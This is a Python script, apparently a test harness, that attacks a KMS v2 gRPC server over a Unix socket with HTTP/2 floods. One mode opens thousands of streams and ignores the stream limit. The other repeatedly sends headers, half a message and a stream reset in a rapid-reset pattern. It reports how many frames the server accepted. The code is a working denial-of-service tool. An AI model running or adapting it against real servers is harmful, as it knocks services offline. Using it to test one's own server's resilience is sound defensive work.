"""h2flood: a hostile HTTP/2 client for the KMS v2 socket (python3-h2's hpack and hyperframe).

It writes raw frames and never reads, so it never acknowledges the server's SETTINGS: the
server's advertised SETTINGS_MAX_CONCURRENT_STREAMS stays unacknowledged, as a hostile peer
would leave it.

  h2flood.py streams SOCKET N   open N streams (HEADERS of a Decrypt, no END_STREAM, no body),
                                print how many were written, then hold the connection until
                                stdin closes
  h2flood.py reset SOCKET SECS  repeat HEADERS, DATA (half a message), RST_STREAM for SECS
                                seconds, reconnecting when the server closes; print JSON
                                {"cycles": C, "closed": times the server closed it}
"""
import json
import socket
import sys
import time

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple
from hyperframe.frame import DataFrame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def header_block():
    """A Decrypt's request headers, never indexed: the same bytes open every stream."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/v2.KeyManagementService/Decrypt"),
               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    return Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in headers])


def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    return s


def streams(path, n):
    block = header_block()
    s = connect(path)
    s.settimeout(10)
    sent = 0
    chunk = []
    try:
        for i in range(n):
            chunk.append(HeadersFrame(2 * i + 1, data=block, flags=["END_HEADERS"]).serialize())
            if len(chunk) == 256 or i == n - 1:
                s.sendall(b"".join(chunk))
                sent = i + 1
                chunk = []
    except OSError:
        pass  # the server closed it, or stopped reading: how far it got is the answer
    print(sent, flush=True)
    sys.stdin.read()
    s.close()


def reset(path, secs):
    block = header_block()
    half = b"\x00\x00\x00\x00\x40" + b"\x0a"  # a gRPC message prefix (64 bytes) and one byte of it
    s = connect(path)
    s.settimeout(5)
    end = time.monotonic() + secs
    cycles = closed = 0
    sid = 1
    while time.monotonic() < end:
        burst = []
        for _ in range(100):
            burst.append(HeadersFrame(sid, data=block, flags=["END_HEADERS"]).serialize())
            burst.append(DataFrame(sid, data=half).serialize())
            burst.append(RstStreamFrame(sid, error_code=8).serialize())
            sid += 2
        try:
            s.sendall(b"".join(burst))
            cycles += 100
        except OSError:
            closed += 1
            s.close()
            try:
                s = connect(path)
                s.settimeout(5)
            except OSError:
                time.sleep(0.05)
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sid = 1
        if sid > 2**31 - 300:
            s.close()
            s = connect(path)
            sid = 1
    print(json.dumps({"cycles": cycles, "closed": closed}), flush=True)


if __name__ == "__main__":
    mode, path = sys.argv[1], sys.argv[2]
    if mode == "streams":
        streams(path, int(sys.argv[3]))
    else:
        reset(path, float(sys.argv[3]))
